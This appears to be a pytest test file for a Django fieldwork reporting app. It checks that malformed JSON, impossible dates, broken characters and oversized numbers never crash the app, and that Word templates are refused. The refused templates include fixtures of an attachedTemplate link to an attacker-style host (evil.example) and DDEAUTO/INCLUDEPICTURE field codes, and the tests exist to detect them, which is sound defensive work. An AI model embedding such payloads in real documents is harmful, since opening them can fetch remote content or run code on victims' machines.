"""What a broken phone, a stranger's template or a slip of the finger may send: never an error page, no way out."""

from __future__ import annotations

import io
import json

import pytest
from django.urls import reverse
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from yibiao_web.fieldwork import appealing
from yibiao_web.fieldwork.pictures import cleaned
from yibiao_web.fieldwork.tests import making
from yibiao_web.fieldwork.tests.test_reports import LIMITS, packed, saved, texts, word
from yibiao_web.fieldwork.word.filling import BadTemplate, check, fill
from yibiao_web.fieldwork.word.report import NAMES, ROWS, report

PICTURE = {"most_bytes": 1 << 20, "most_pixels": 50_000_000}
ALL = [*NAMES, *ROWS]


def post(client, visit, body: str):
    return client.post(reverse("fieldwork:notes", args=[visit.pk]), body, content_type="application/json")


@pytest.mark.parametrize("body", ['{"notes": ' + "[" * 100_000, '{"notes": [' + "9" * 5000 + "]}", "null", "[]", "7"])
def test_what_is_no_list_of_notes_is_told_so(cast, now, as_user, body):
    assert post(as_user("zhao"), making.started(cast, now), body).status_code == 422


@pytest.mark.parametrize(
    "at", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00", "2026-02-30T01:00"]
)
def test_a_clock_of_another_age_does_not_keep_a_note_away(cast, now, as_user, at):
    visit = making.started(cast, now)
    said = post(as_user("zhao"), visit, json.dumps({"notes": [making.told(noted_at=at)]})).json()["notes"]
    assert said[0]["kept"]
    assert visit.notes.get().noted_at.year == now.year


@pytest.mark.parametrize("words", ["断了的\ud83d表情", "坏字\uffff符", "\x0b竖着\x1f"])
def test_broken_characters_are_left_out_and_the_report_is_made(cast, now, words):
    visit = making.finished(cast, now, making.told(words))
    making.remark(visit, words="", viewer=cast.viewer("lin"), now=now)
    note = visit.notes.get()
    made = making.conclude(
        visit, words=f"看到{words[-1]}。", laid=[making.laid(cast, note, now)], viewer=cast.viewer("zhao"), now=now
    )
    assert "看到" in "".join(texts(report(made)[1]))


@pytest.mark.parametrize("people", ["0000000000009999999999999999999999", "99999999999", "1e3", "-1", "３", "2.5"])
def test_a_number_of_people_is_a_plain_small_number(cast, now, as_user, people):
    visit = making.started(cast, now)
    row = making.told("敲锣打鼓", kind="sign", sign="gongs", people=people)
    assert not post(as_user("zhao"), visit, json.dumps({"notes": [row]})).json()["notes"][0]["kept"]


@pytest.mark.parametrize("number", ["9" * 5000, "9" * 30, "²"])
def test_a_number_of_thousands_of_digits_is_none(cast, now, as_user, number):
    problem = making.concluded(cast, now).visit.problems.get()
    zhou = as_user("zhou")
    rectified = zhou.post(reverse("fieldwork:rectify", args=[problem.pk]), {"source": [number]})
    asked = zhou.post(reverse("fieldwork:make_appeal", args=[problem.visit_id]), {"problem": number, "words": "不对"})
    said = as_user("lin").post(
        reverse("fieldwork:remark", args=[problem.visit_id]), {"note": number, "words": "说一句"}
    )
    assert max(one.status_code for one in (rectified, asked, said)) < 500


def test_a_day_that_no_calendar_has_leaves_the_day_as_it_was(cast, now, as_user):
    problem = making.concluded(cast, now, problem={"owner": cast.org("杏花坞村")}).visit.problems.get()
    words = "灭火器是局里统一配的，换也归局里。"
    one = appealing.appeal(problem.visit.conclusion, problem=problem, words=words, viewer=cast.viewer("lin"), now=now)
    given = {"outcome": "corrected", "answer": "期限照旧，责任改归局里。", "due_on": "2026-02-30", "owner": "9" * 5000}
    assert as_user("gao").post(reverse("fieldwork:appeal", args=[one.pk]), given).status_code == 302
    due_on = problem.due_on
    problem.refresh_from_db()
    assert problem.due_on == due_on


def linking(rels: bytes) -> bytes:
    """A template whose main part refers to something outside, the way ``rels`` writes it."""
    return packed(word("《结论》"), **{"word___rels__document--xml--rels": rels})


_REL = (
    '<{p}Relationships {x}="http://schemas.openxmlformats.org/package/2006/relationships"><{p}Relationship Id="rId1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://evil.example/hyperlink/x.dotm" TargetMode="{mode}"/></{p}Relationships>'
)


@pytest.mark.parametrize(
    "rels",
    [
        _REL.format(p="", x="xmlns", mode="External").encode(),
        _REL.format(p="r:", x="xmlns:r", mode="External").replace("/hyperlink", "").encode(),
        _REL.format(p="", x="xmlns", mode="&#69;xternal").replace("/hyperlink", "").encode(),
        ('<?xml version="1.0" encoding="UTF-16"?>' + _REL.format(p="", x="xmlns", mode="External")).encode("utf-16"),
    ],
)
def test_a_link_to_outside_is_found_however_it_is_written(rels):
    with pytest.raises(BadTemplate) as told:
        check(linking(rels), ALL, **LIMITS)
    assert told.value.code in ("template_links", "template_damaged")


def test_a_plain_hyperlink_may_stay():
    document = Document()
    document.add_paragraph("《结论》")
    document.part.relate_to("https://www.gov.cn", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    assert check(saved(document), ALL, **LIMITS).known == ("结论",)


@pytest.mark.parametrize(
    "field", ["DDEAUTO c:\\\\x.exe", 'INCLUDEPICTURE "http://e"', "INCLUDETEXT \\\\\\\\e\\\\x", " dde excel"]
)
def test_a_field_that_fetches_or_runs_something_is_refused_though_cut_into_runs(field):
    document = Document()
    paragraph = document.add_paragraph("《结论》")
    for part in (field[:3], field[3:]):
        run = paragraph.add_run()._r
        told = OxmlElement("w:instrText")
        told.text = part
        run.append(told)
    with pytest.raises(BadTemplate) as said:
        check(saved(document), ALL, **LIMITS)
    assert said.value.code == "template_runs"


def test_a_page_number_is_a_field_that_may_stay():
    document = Document()
    document.add_paragraph("《结论》")
    simple = OxmlElement("w:fldSimple")
    simple.set(qn("w:instr"), " PAGE ")
    document.paragraphs[0]._p.append(simple)
    assert check(saved(document), ALL, **LIMITS).known


def test_what_was_filled_in_is_not_filled_in_again():
    document = Document()
    document.add_paragraph("《结论》")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "《问题》", "《检查名称》"
    values = {"结论": "照《问题》和《检查名称》改", "检查名称": "消防"}
    made = Document(io.BytesIO(fill(saved(document), values, [{"问题": "没有贴《结论》"}])))
    assert made.paragraphs[0].text == "照《问题》和《检查名称》改"
    assert [one.text for one in made.tables[0].rows[0].cells] == ["没有贴《结论》", "消防"]


def test_a_colour_mark_that_carries_something_else_does_not_stay():
    smuggled = cleaned(making.jpeg(making._segment(0xEE, b"Adobe" + bytes(7) + b"GPS 29N")), **PICTURE).content
    plain = cleaned(making.jpeg(making._segment(0xEE, b"Adobe" + bytes(7))), **PICTURE).content
    assert b"GPS" not in smuggled
    assert b"Adobe" in plain
